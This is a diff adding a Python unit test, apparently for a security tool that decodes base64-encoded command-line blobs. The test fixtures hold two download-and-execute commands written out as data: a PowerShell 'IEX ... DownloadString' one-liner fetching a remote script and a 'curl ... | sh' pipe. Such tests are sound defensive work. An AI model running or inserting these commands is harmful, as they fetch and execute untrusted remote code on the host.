@@ -31,3 +31,11 @@ def test_secrets_in_payload_redacted() -> None:
 def test_command_text() -> None:
     assert command_text("a b", "") == "a b"
     assert command_text("a b", "c") == "a b\nc"
+
+
+def test_powershell_encoded_command_is_utf16le() -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')"
+    blob = base64.b64encode(script.encode("utf-16-le")).decode()
+    assert decoded_blobs(["powershell", "-enc", blob]) == script
+    # UTF-8 text is not mistaken for UTF-16: its odd bytes are not all NUL
+    assert decoded_blobs([base64.b64encode(b"curl http://x/y | sh").decode()]) == "curl http://x/y | sh"
